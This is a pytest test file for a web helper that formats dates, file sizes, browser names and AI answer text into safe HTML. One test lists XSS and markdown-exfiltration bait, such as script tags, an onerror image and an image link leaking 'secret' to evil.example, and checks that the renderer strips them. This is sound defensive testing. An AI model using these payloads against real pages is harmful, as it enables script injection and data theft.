"""What members read: times, sizes, and an answer's text, which can carry nothing but words."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hearth.core.turns import Citation
from hearth.web import words

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 23, 9, 30, tzinfo=BERLIN)
LETTER = Citation(number=1, ref="passage:3", kind="passage", title="Letter", source="letter.txt")
ALLOWED = {"p", "ul", "ol", "li", "em", "strong", "code", "br", "sup", "a"}


@pytest.mark.parametrize(
    ("moment", "said"),
    [
        (NOW - timedelta(seconds=20), "just now"),
        (NOW - timedelta(minutes=5), "5 min ago"),
        (NOW - timedelta(hours=3), "today, 06:30"),
        (NOW - timedelta(hours=20), "yesterday, 13:30"),
        (NOW + timedelta(hours=20), "tomorrow, 05:30"),
        (NOW - timedelta(days=3), "Friday, 09:30"),
        (NOW - timedelta(days=30), "24 October"),
        (NOW - timedelta(days=400), "19 October 2025"),
        (datetime(2026, 11, 22, 23, 30, tzinfo=UTC), "today, 00:30"),
    ],
)
def test_when(moment: datetime, said: str) -> None:
    assert words.when(moment, NOW) == said


def test_time_tag_is_exact_for_machines() -> None:
    moment = datetime(2020, 2, 3, 4, 5, tzinfo=UTC)
    assert words.time_tag(moment, BERLIN) == (
        '<time datetime="2020-02-03T05:05:00+01:00" title="Monday, 3 February 2020, 05:05">'
        "3 February 2020</time>"
    )


@pytest.mark.parametrize(
    ("count", "said"),
    [
        (1, "1 byte"),
        (812, "812 bytes"),
        (14_200, "14 kB"),
        (2_140_000, "2.1 MB"),
        (250_000_000, "250 MB"),
        (7_000_000_000_000, "7000 GB"),
    ],
)
def test_size(count: int, said: str) -> None:
    assert words.size(count) == said


def test_markers_become_links_to_their_sources() -> None:
    shown = words.prose("Fifteen degrees [1], they say [2].", "family", [LETTER])
    assert 'href="/pods/family/sources/passage:3"' in shown
    assert 'aria-label="Source 1"' in shown
    assert '<sup class="marker">2</sup>' in shown


def test_several_markers_in_one_bracket() -> None:
    assert words.marked("Both [1, 2].", {}).count('<sup class="marker">') == 2


def test_lists_and_emphasis() -> None:
    shown = words.prose("Two things:\n\n- **Piano** at 16:15\n- Choir")
    assert "<li><strong>Piano</strong> at 16:15</li>" in shown


def test_a_line_after_a_list_stands_alone() -> None:
    shown = words.prose("Two:\n- one\n- two\nThe statements begin on 1 May.")
    assert shown.endswith("</ul>\n<p>The statements begin on 1 May.</p>\n")
    assert shown.count("<li>") == 2


@pytest.mark.parametrize(
    "bait",
    [
        "<script>alert(1)</script>",
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[click]: https://evil.example",
        "<https://evil.example>",
        '<a href="https://evil.example">x</a>',
        "**<img src=x onerror=alert(1)>**",
    ],
)
def test_an_answer_cannot_lure_anywhere(bait: str) -> None:
    shown = words.prose(bait, "family", [LETTER])
    assert "<a " not in shown
    assert "<img" not in shown
    assert "<script" not in shown


@given(st.text(alphabet=st.sampled_from("ab<>&\"'[]()!*_`-#1 ,\n.:/"), max_size=200))
def test_only_our_own_tags_come_out(text: str) -> None:
    for shown in (words.prose(text, "family", [LETTER]), words.marked(text, {1: "/x"})):
        tags = re.findall(r"</?([a-zA-Z]+)[^>]*>", shown)
        assert set(tags) <= ALLOWED
        assert shown.count("<") == len(tags)
        for link in re.findall(r'href="([^"]*)"', shown):
            assert link in {"/x", "/pods/family/sources/passage:3"}


@pytest.mark.parametrize(
    ("tool", "said"),
    [
        ("calendar_agenda", "Looked in the calendar"),
        ("notes_add", "Prepared a change for the notes"),
        ("small_talk", "Answered without looking anything up"),
        ("weather", "Used weather"),
    ],
)
def test_what_a_tool_did(tool: str, said: str) -> None:
    assert words.did(tool) == said


def test_browsers_by_the_names_people_use() -> None:
    firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
    phone = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) Version/18.0 Safari/604.1"
    assert words.browser(firefox) == "Firefox on Linux"
    assert words.browser(phone) == "Safari on iPhone"
    assert words.browser("curl/8") == "curl/8"
    assert words.browser("") == "A browser"
